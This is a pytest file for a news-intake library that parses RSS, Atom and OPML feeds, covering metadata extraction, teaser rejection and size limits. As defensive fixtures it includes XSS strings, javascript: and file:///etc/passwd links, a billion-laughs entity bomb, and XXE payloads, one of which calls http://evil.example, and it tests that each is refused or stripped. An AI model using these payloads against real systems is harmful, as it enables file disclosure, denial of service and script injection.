"""RSS, Atom and OPML: what entries say, what is fetched, and what strangers write into feeds."""

from __future__ import annotations

import time
from html import escape
from io import BytesIO
from pathlib import Path

import pytest

from onrecord.errors import NotReadable, TooLarge
from onrecord.intake import documents
from onrecord.intake.feeds import Feed, parse_feed, plain
from onrecord.intake.opml import read_opml
from onrecord.limits import MAX_ENTRIES, MAX_FEED_BYTES
from onrecord.model import Document, Hints, Rejected, Report
from onrecord.report import build
from web_site import fetcher, served

BODY = "".join(
    f"<p>Police in Nairobi arrested {n} people on Thursday during a march against fuel prices, a spokeswoman said. "
    "The union called on the ministry to lower the levy.</p>"
    for n in (12, 14, 15, 17, 21, 30)
)
HEAD = """<?xml version="1.0" encoding="UTF-8"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"
xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>Rift Valley Courier</title>
<link>https://courier.example/</link>"""
TAIL = "</channel></rss>"


def item(n: int = 1, body: str = BODY, **more: str) -> str:
    told = {
        "title": f"Twelve held in Nairobi {n}", "link": f"https://courier.example/{n}",
        "pubDate": "Thu, 04 Sep 2025 23:20:00 -0500", "dc:creator": "Achieng Mwangi", "guid": f"id-{n}",
        "content:encoded": escape(body), **more,
    }  # fmt: skip
    return "<item>" + "".join(f"<{tag}>{text}</{tag}>" for tag, text in told.items() if text) + "</item>"


ATOM = f"""<feed xmlns="http://www.w3.org/2005/Atom"><title>Rift Valley Courier</title><id>urn:f</id>
<entry><title type="html">Twelve &amp;lt;b&amp;gt;held&amp;lt;/b&amp;gt;</title><id>urn:1</id><link href="/1"/>
<published>2025-09-04T23:20:00-05:00</published><updated>2025-09-05T06:00:00Z</updated>
<author><name>Achieng Mwangi</name></author><author><name>Otieno Were</name></author>
<content type="html">{escape(BODY)}</content></entry></feed>"""


def feed(text: str | bytes) -> Feed:
    return parse_feed(text.encode() if isinstance(text, str) else text, address="https://courier.example/feed")


def read(text: str, tmp_path: Path, name: str = "a.xml", **hints: str) -> list[Document | Rejected]:
    path = tmp_path / name
    path.write_text(text)
    return list(documents([str(path)], hints=Hints(**hints)))


def test_an_rss_entry_with_its_full_text_is_a_report(tmp_path: Path) -> None:
    (found,) = read(HEAD + item() + TAIL, tmp_path)
    assert isinstance(found, Document)
    assert found.container == str(tmp_path / "a.xml")
    assert found.path == f"{found.container}#https://courier.example/1"
    assert found.address == "https://courier.example/1"
    report = build(found)
    assert isinstance(report, Report)
    assert report.title == "Twelve held in Nairobi 1"
    assert (report.publisher, report.author) == ("Rift Valley Courier", "Achieng Mwangi")
    # the zone that the feed wrote decides the day
    assert report.published == "2025-09-04T23:20:00-05:00"
    assert report.url == "https://courier.example/1"
    assert report.text.count("\n\n") == 5 and report.text.startswith("Police in Nairobi arrested 12")


def test_an_atom_entry_is_a_report(tmp_path: Path) -> None:
    (found,) = documents(["-"], stdin=BytesIO(ATOM.encode()), hints=Hints(url="https://courier.example/feed"))
    assert isinstance(found, Document)
    assert found.hints.title == "Twelve held"
    assert found.hints.author == "Achieng Mwangi, Otieno Were"
    assert (found.hints.published, found.hints.updated) == ("2025-09-04T23:20:00-05:00", "2025-09-05T06:00:00Z")
    assert found.address == "https://courier.example/1"


def test_a_feed_that_calls_itself_by_its_section_is_known_by_its_domain(tmp_path: Path) -> None:
    text = HEAD.replace("Rift Valley Courier", "World news - all") + item(link="https://www.bbc.co.uk/news/1") + TAIL
    (found,) = read(text, tmp_path)
    assert isinstance(found, Document) and found.hints.publisher == "BBC"
    (told,) = read(text, tmp_path, publisher="Kites Daily")
    assert isinstance(told, Document) and told.hints.publisher == "Kites Daily"


@pytest.mark.parametrize(
    "body", ["<p>Twelve were held.</p>", BODY + "<p>Drivers will go on [...]</p>", BODY + "Read more", ""]
)
def test_a_teaser_in_a_file_is_rejected_and_nothing_is_fetched(tmp_path: Path, body: str) -> None:
    (found,) = read(HEAD + item(body=body) + TAIL, tmp_path)
    assert isinstance(found, Rejected)
    assert found.reason == "no_full_text"
    assert found.path.endswith("#https://courier.example/1")


def test_a_teaser_of_a_fetched_feed_leads_to_its_page() -> None:
    with served() as site:
        page = "<!doctype html><title>x</title><h1>On the page</h1>" + BODY
        site.routes["/feed"] = HEAD + item(link=site.url("/1"), body="Short.") + item(2, link=site.url("/2")) + TAIL
        site.routes["/1"] = page
        # in production these ports would be refused as links already; the feed is parsed as it is
        teaser, whole = documents([site.url("/feed")], web=fetcher())
    assert isinstance(teaser, Rejected) and isinstance(whole, Document)
    assert teaser.reason == "no_full_text"


def test_pages_of_entries_keep_their_own_words(monkeypatch: pytest.MonkeyPatch) -> None:
    from onrecord.intake import addresses

    with served() as site:
        monkeypatch.setattr(addresses, "PORTS", addresses.PORTS | {site.port})
        monkeypatch.setattr(addresses.parse, "__kwdefaults__", {"base": None, "ports": addresses.PORTS})
        page = "<!doctype html><title>x</title><article><h1>Told by the page</h1>" + BODY + "</article>"
        site.routes["/feed"] = HEAD + item(link=site.url("/1"), body="Short.") + TAIL
        site.routes["/1"] = page
        (found,) = documents([site.url("/feed")], web=fetcher())
    assert isinstance(found, Document)
    report = build(found)
    assert isinstance(report, Report)
    assert report.title == "Told by the page"
    # the page names no day and no publisher: there the feed is believed
    assert (report.published, report.publisher) == ("2025-09-04T23:20:00-05:00", "Rift Valley Courier")


def test_a_cut_feed_is_read_to_the_cut(tmp_path: Path) -> None:
    text = HEAD + item(1) + item(2) + item(3)[:-200]
    found = read(text, tmp_path)
    assert [type(f).__name__ for f in found] == ["Document", "Document", "Rejected", "Rejected"]
    assert [f.reason for f in found if isinstance(f, Rejected)] == ["truncated", "truncated"]


def test_html_entities_do_not_end_a_feed() -> None:
    text = HEAD + item(1, title="Caf&eacute; closed&nbsp;down") + item(2) + TAIL
    assert [entry.title for entry in feed(text).entries] == ["Café closed down", "Twelve held in Nairobi 2"]


@pytest.mark.parametrize("number", ["&#xD800;", "&#0;", "&#xFFFF;", "&#99999999;", "&#x110000;", "&#x1F;"])
def test_numbers_that_are_no_characters_are_left_out(number: str) -> None:
    (entry,) = feed(HEAD + item(title=f"Held{number} again", link=f"https://courier.example/{number}1") + TAIL).entries
    assert (entry.title, entry.link) == ("Held again", "https://courier.example/1")
    assert feed(HEAD + item(title="A &#x41;&#66; & B") + TAIL).entries[0].title == "A AB & B"


def test_a_feed_with_more_entries_than_the_limit_says_so() -> None:
    found = feed(
        HEAD + "".join(f"<item><guid>{n}</guid><title>t</title></item>" for n in range(MAX_ENTRIES + 5)) + TAIL
    )
    assert len(found.entries) == MAX_ENTRIES
    assert found.broken is not None and str(MAX_ENTRIES) in found.broken


def test_entries_are_told_apart_and_repeated_ones_read_once() -> None:
    found = feed(HEAD + item(1) + item(2) + item(1) + item(3, link="") + TAIL)
    assert [entry.ident for entry in found.entries] == [
        "https://courier.example/1",
        "https://courier.example/2",
        "id-3",
    ]


HOSTILE = "<img src=x onerror=alert(1)><script>alert(2)</script><svg onload=alert(3)>"


@pytest.mark.parametrize("tag", ["title", "dc:creator", "pubDate", "guid"])
@pytest.mark.parametrize("times", [0, 1, 2])
def test_markup_in_what_a_feed_says_is_taken_out(tag: str, times: int) -> None:
    told = f"Held {HOSTILE} again"
    for _ in range(times):
        told = escape(told)
    text = HEAD + item(**{tag: told if times else f"<![CDATA[{told}]]>", "link": ""}) + TAIL
    (entry,) = feed(text).entries
    for value in (entry.title, entry.author, entry.published, entry.updated, entry.ident, entry.publisher):
        assert "<" not in (value or "")


@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(1)",
        "file:///etc/passwd",
        "http://127.0.0.1/x",
        "http://localhost/",
        "data:text/html,x",
        "http://[",
        "ftp://x.example/",
    ],
)
def test_links_that_are_not_of_the_public_web_are_none(link: str) -> None:
    (entry,) = feed(HEAD + item(link=link, guid="") + TAIL).entries
    assert entry.link is None or entry.link == "http://127.0.0.1/x"  # an IP is judged where it is asked


BOMB = '<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "' + "&a;" * 100 + '"><!ENTITY c "' + "&b;" * 100 + '">]>'
EXTERNAL = '<!DOCTYPE r [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE r [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]>'


@pytest.mark.parametrize("declared", [BOMB, EXTERNAL, PARAMETER])
@pytest.mark.parametrize("before", ["", "<!-- <rss> -->", "<!--" + "x" * 20_000 + "-->", "<?a <b ?>"])
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_declared_entities_are_refused(declared: str, before: str, encoding: str) -> None:
    rss = f"{before}{declared}<rss version='2.0'><channel><title>&c;</title></channel></rss>"
    with pytest.raises(NotReadable) as refused:
        parse_feed(rss.encode(encoding))
    assert refused.value.reason == "unsafe_xml"
    with pytest.raises(NotReadable) as refused:
        read_opml(f"{before}{declared}<opml><body><outline xmlUrl='&c;'/></body></opml>".encode(encoding))
    assert refused.value.reason == "unsafe_xml"


def test_a_document_type_without_declarations_is_harmless() -> None:
    text = '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.netscape.example/rss-0.91.dtd">'
    assert len(feed(text + HEAD.partition("?>")[2] + item() + TAIL).entries) == 1


@pytest.mark.parametrize("text", ["<rss", "<feed>", "<html><p>Not found</p></html>", "", "{}", "<rss></rss>"])
def test_what_is_no_feed(text: str) -> None:
    try:
        assert feed(text).entries == ()
    except NotReadable as error:
        assert error.reason == "broken_feed"


def test_a_feed_over_the_limit() -> None:
    with pytest.raises(TooLarge):
        feed(HEAD + "x" * MAX_FEED_BYTES)


SHAPES = {
    "deep": "<a>" * 100_000, "items": "<item>" * 30_000, "angles": "<" * 300_000, "entities": "&lt;" * 300_000,
    "attributes": '<item a="' * 30_000, "cdata": "<![CDATA[" * 30_000, "comments": "<!--" * 30_000,
    "markup": escape(escape("<p>")) * 100_000, "spaces": " " * 1_000_000, "many": item() * 2_000,
    "broken": item(title="&nbsp;") * 1_000, "stairs": ("<a>" * 150 + "</a>" * 150) * 300,
}  # fmt: skip


@pytest.mark.parametrize("shape", SHAPES)
def test_hostile_feeds_end_soon(shape: str) -> None:
    start = time.process_time()
    for text in (HEAD + SHAPES[shape], HEAD + "<item><description>" + SHAPES[shape]):
        try:
            feed(text)
        except NotReadable:
            continue
    assert time.process_time() - start < 5


def test_plain_ends_soon_on_hostile_text() -> None:
    for text in ("<a" * 100_000, "&lt;" * 100_000, "<" * 300_000, "&" * 300_000):
        start = time.process_time()
        plain(text, limit=len(text))
        assert time.process_time() - start < 0.5


OPML = """<?xml version="1.0"?><opml version="2.0"><head><title>Mine</title></head><body>
<outline text="Africa"><outline text="A" type="rss" xmlUrl="https://a.example/feed"/>
<outline text="East"><outline xmlurl="https://b.example/feed"/></outline></outline>
<outline text="A" xmlUrl="https://a.example/feed"/><outline text="none"/></body></opml>"""


def test_a_list_of_feeds() -> None:
    assert read_opml(OPML.encode()).feeds == ("https://a.example/feed", "https://b.example/feed")


def test_a_broken_list_is_read_to_the_break() -> None:
    found = read_opml(OPML[: OPML.index("b.example")].encode())
    assert found.feeds == ("https://a.example/feed",)
    assert found.broken is not None and "line 3" in found.broken


def test_deep_and_long_lists() -> None:
    deep = "<opml><body>" + "<outline text='x'>" * 100_000 + '<outline xmlUrl="https://a.example/f"/>'
    assert read_opml(deep.encode()).feeds == ("https://a.example/f",)
    wide = "<opml>" + "".join(f'<outline xmlUrl="https://a.example/{n}"/>' for n in range(10_050)) + "</opml>"
    found = read_opml(wide.encode())
    assert len(found.feeds) == 10_000 and found.broken is not None


@pytest.mark.parametrize("text", ["", "<a/>", "nonsense", "<html></html>"])
def test_what_is_no_list(text: str) -> None:
    with pytest.raises(NotReadable) as refused:
        read_opml(text.encode())
    assert refused.value.reason == "broken_xml"


def test_a_list_named_itself_is_fetched_and_one_in_a_folder_is_not(tmp_path: Path) -> None:
    with served() as site:
        path = tmp_path / "mine.opml"
        path.write_text(f'<opml><body><outline xmlUrl="{site.url("/feed")}"/></body></opml>')
        site.routes["/feed"] = HEAD + item() + TAIL
        (found,) = documents([str(path)], web=fetcher())
        assert isinstance(found, Document) and found.container == site.url("/feed")
        asked = len(site.asked)
        (named,) = documents([str(tmp_path)], web=fetcher())
        assert isinstance(named, Rejected) and named.reason == "feed_list"
        assert len(site.asked) == asked
